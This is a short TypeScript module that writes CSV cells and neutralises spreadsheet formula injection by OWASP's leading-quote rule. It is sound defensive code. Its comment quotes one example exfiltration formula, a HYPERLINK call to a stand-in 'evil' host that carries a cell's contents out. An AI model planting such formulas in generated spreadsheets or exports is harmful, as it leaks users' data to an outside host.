/**
 * One CSV cell, for every CSV the project writes. Text that a spreadsheet would read as a formula
 * (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is neutralised by OWASP's rule, a
 * leading single quote, so a model's answer such as `=HYPERLINK("https://evil/?"&A1)` stays text.
 * Numbers and booleans are written as they are (a negative cost is a number, not a formula); text
 * with a comma, quote or line break is quoted.
 */
export function csvCell(v: unknown): string {
  if (v === null || v === undefined) return "";
  if (typeof v === "number" || typeof v === "boolean") return quoteIfNeeded(String(v));
  const text = typeof v === "string" ? v : JSON.stringify(v);
  return quoteIfNeeded(neutraliseFormula(text));
}

/** `'` before text that starts like a spreadsheet formula (OWASP CSV injection). */
export function neutraliseFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

function quoteIfNeeded(s: string): string {
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}
